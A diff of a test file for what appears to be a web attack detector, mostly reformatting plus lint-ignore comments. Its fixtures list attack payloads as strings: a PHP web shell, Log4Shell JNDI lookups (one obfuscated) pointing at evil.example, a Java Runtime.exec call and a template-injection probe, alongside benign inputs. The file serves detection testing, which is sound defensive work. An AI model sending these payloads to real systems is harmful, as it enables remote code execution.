@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest'
-import { ATTACK_CATEGORIES, type AttackCategory, type InputKind, detect } from './index'
+import { ATTACK_CATEGORIES, type AttackCategory, detect, type InputKind } from './index'
 
 const all = { rules: new Set<AttackCategory>(ATTACK_CATEGORIES), paranoia: 1 as const }
 
@@ -37,7 +37,9 @@ const ATTACKS: [AttackCategory, InputKind, string][] = [
   ['php', 'body', '<?php system($_GET["c"]); ?>'],
   ['php', 'body', 'O:8:"stdClass":0:{}'],
   ['php', 'name', 'shell.php'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, not a template
   ['java', 'header', '${jndi:ldap://evil.example/a}'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell lookup, not a template
   ['java', 'header', '${${lower:j}ndi:${lower:l}dap://evil.example/a}'],
   ['java', 'body', 'java.lang.Runtime.getRuntime().exec("id")'],
   ['ssti', 'body', '{{7*7}}'],
@@ -59,7 +61,10 @@ const BENIGN: [InputKind, string][] = [
   ['query', 'https://example.com/search?q=select+from+where'],
   ['query', '550e8400-e29b-41d4-a716-446655440000'],
   ['body', '# Title\n\n```\nnpm install palisade\n```'],
-  ['user-agent', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15'],
+  [
+    'user-agent',
+    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15',
+  ],
   ['path', '/api/v1/users/42/orders'],
   ['name', 'constructor_name'],
   ['cookie', 'theme=dark'],
